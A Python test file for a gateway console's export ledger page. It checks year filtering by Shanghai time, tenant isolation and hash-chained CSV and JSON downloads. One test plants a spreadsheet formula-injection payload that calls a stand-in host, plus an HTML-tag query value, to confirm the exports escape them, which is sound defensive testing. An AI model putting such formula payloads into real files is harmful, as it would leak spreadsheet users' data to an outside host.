"""The console's export ledger page: the tenant's own figures and entries of a calendar year
in Beijing time (an export at 00:30 on 1 January in Shanghai is the new year's), another
tenant's not shown."""

from __future__ import annotations

import datetime as dt

from gateway.store.ledger import ExportRecord, Verdict
from gateway.store.ledger_export import chain_entry
from tests.console.conftest import LiveConsole, signed_in

NEW_YEAR_IN_SHANGHAI = dt.datetime(2026, 12, 31, 16, 30, tzinfo=dt.UTC)


async def exported(live: LiveConsole, tenant_id: str, number: str, at: dt.datetime) -> None:
    record = ExportRecord("91310115MA1FL8K22H", "SG", "0195:X", number, "ab" * 32,
                          ("business", "personal"), subjects=(("h1", False),))  # fmt: skip
    verdict = Verdict(True, "Art. 5(4): fewer than 100,000 individuals", "art-5-4",
                      policy_version="ftz-2026-1", decided_by="policy ftz-2026-1")  # fmt: skip
    await live.store.connector.write(chain_entry(tenant_id, f"sub-{number}", record, verdict, at))


async def test_the_ledger_page_shows_the_tenants_year(quiet: LiveConsole) -> None:
    await exported(
        quiet, quiet.tenant_a.id, "FP-2026", NEW_YEAR_IN_SHANGHAI - dt.timedelta(hours=1)
    )
    await exported(quiet, quiet.tenant_a.id, "FP-2027", NEW_YEAR_IN_SHANGHAI)
    await exported(quiet, quiet.tenant_b.id, "FP-OTHER", NEW_YEAR_IN_SHANGHAI)
    session = await signed_in(quiet, quiet.key_a)
    async with session:
        async with session.get(f"{quiet.base}/console/ledger?year=2027") as response:
            assert response.status == 200
            page = await response.text()
        async with session.get(f"{quiet.base}/console/ledger?year=2026") as response:
            before = await response.text()
        async with session.get(f"{quiet.base}/console/ledger?year=x%3Cb%3E") as response:
            assert response.status == 200  # this year's page
    assert "FP-2027" in page and "FP-2026" not in page and "FP-OTHER" not in page
    assert "Art. 5(4): fewer than 100,000 individuals: 1" in page
    assert 'id="ledger-entries"' in page and "出境台账 2027" in page
    assert "2027-01-01 00:30:00 +08:00" in page
    assert "FP-2026" in before and "FP-2027" not in before
    assert 'href="/console/ledger"' in page  # in the menu


async def test_the_year_downloads_as_report_and_entries(quiet: LiveConsole) -> None:
    """The compliance officer keeps the year's record: the report (CSV and JSON, as
    ``lingang ledger report`` and ``GET /v1/ledger/report`` give it) and every entry with
    its hashes, the tenant's own only. A basis an officer typed that a spreadsheet would run
    as a formula is written as text."""
    import csv
    import io
    import json

    formula = '=HYPERLINK("http://x.invalid/?"&A1,"批准")'
    record = ExportRecord("91310115MA1FL8K22H", "SG", "0195:X", "FP-9", "cd" * 32, ("business",))
    verdict = Verdict(True, formula, "officer", policy_version="v1", decided_by="officer Li Wei")
    at = dt.datetime(2026, 6, 1, 8, 0, tzinfo=dt.UTC)
    await quiet.store.connector.write(chain_entry(quiet.tenant_a.id, "sub-9", record, verdict, at))
    await exported(quiet, quiet.tenant_a.id, "FP-2026", at)
    await exported(quiet, quiet.tenant_b.id, "FP-OTHER", at)
    session = await signed_in(quiet, quiet.key_a)
    async with session:
        async with session.get(f"{quiet.base}/console/ledger?year=2026") as response:
            page = await response.text()
        files = {}
        for name in ("report.csv", "report.json", "entries.csv"):
            assert f'href="/console/ledger/{name}?year=2026" download' in page
            url = f"{quiet.base}/console/ledger/{name}?year=2026"
            async with session.get(url) as response:
                assert response.status == 200, name
                disposition = response.headers["Content-Disposition"]
                assert disposition == f'attachment; filename="ledger-{name.replace(".", "-2026.")}"'
                files[name] = (await response.read()).decode("utf-8")
    report = json.loads(files["report.json"])
    assert report["year"] == 2026
    assert report["exporters"]["91310115MA1FL8K22H"]["documents"] == 2
    rows = list(csv.DictReader(io.StringIO(files["entries.csv"].removeprefix("\ufeff"))))
    assert [r["document_id"] for r in rows] == ["FP-9", "FP-2026"]
    assert rows[0]["basis"] == "'" + formula and len(rows[0]["entry_hash"]) == 64
    assert rows[1]["prev_hash"] == rows[0]["entry_hash"]
    report_rows = list(csv.reader(io.StringIO(files["report.csv"].removeprefix("\ufeff"))))
    assert [*report_rows[0]] == ["year", "tenant", "exporter", "dimension", "key", "value"]
    assert ["by_basis", "'" + formula, "1"] in [r[3:] for r in report_rows]
    for text in files.values():
        assert "FP-OTHER" not in text and quiet.tenant_b.id not in text


async def test_a_tenants_entries_do_not_count_another_tenants_exports(
    quiet: LiveConsole,
) -> None:
    """The export ledger is one hash chain for every tenant, so its sequence numbers count
    every tenant's exports: shown to tenant A, its entries 1 and 4 would tell it that
    another firm exported twice in between. A's page and entries file list its own entries
    without them, and each row still checks against its hashes (``entry_hash`` is the
    chained hash over ``prev_hash`` and the row's fields, its ``tenant_id`` included)."""
    import csv
    import io
    import re

    from gateway.store.ledger_chain import entry_hash

    at = dt.datetime(2026, 6, 1, 8, 0, tzinfo=dt.UTC)
    a, b = quiet.tenant_a.id, quiet.tenant_b.id
    for minutes, (tenant, number) in enumerate(
        [(a, "FP-A1"), (b, "FP-B1"), (b, "FP-B2"), (a, "FP-A2")]
    ):
        await exported(quiet, tenant, number, at + dt.timedelta(minutes=minutes))
    session = await signed_in(quiet, quiet.key_a)
    async with session:
        async with session.get(f"{quiet.base}/console/ledger?year=2026") as response:
            page = await response.text()
        url = f"{quiet.base}/console/ledger/entries.csv?year=2026"
        async with session.get(url) as response:
            text = (await response.read()).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["document_id"] for r in rows] == ["FP-A1", "FP-A2"]
    assert "seq" not in rows[0] and "4" not in {r.get("seq") for r in rows}
    shown = re.findall(r'<tr><td class="num">(\d+)</td>', page.split('id="ledger-entries"')[1])
    assert shown == [], "the page numbers entries by the chain's sequence"
    for row in rows:
        fields = {**row, "subjects": int(row["subjects"])}
        assert row["tenant_id"] == a
        assert entry_hash(row["prev_hash"], fields) == row["entry_hash"], row["document_id"]
